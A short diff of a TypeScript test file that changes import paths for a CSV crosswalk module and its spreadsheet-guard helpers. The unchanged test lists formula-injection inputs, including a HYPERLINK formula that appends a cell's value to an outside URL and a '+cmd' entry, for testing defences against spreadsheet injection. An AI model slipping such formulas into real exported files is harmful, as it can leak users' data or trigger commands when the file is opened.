@@ -1,7 +1,7 @@
 import fc from 'fast-check';
 import { describe, expect, it } from 'vitest';
-import { readCrosswalkCsv, writeCrosswalkCsv } from '../../lambdas/crosswalk/csv.ts';
-import { guarded, unguarded } from '../../lambdas/runtime/spreadsheet.ts';
+import { guarded, unguarded } from '../../lambdas/platform/spreadsheet.ts';
+import { readCrosswalkCsv, writeCrosswalkCsv } from '../../lambdas/posting/code-mapping/csv.ts';
 
 describe('a cell that people open in a spreadsheet', () => {
   it.each(['=HYPERLINK("http://x"&A1)', '+cmd', '-1+1', '@SUM(A1)', '\t=1', "'=1"])(
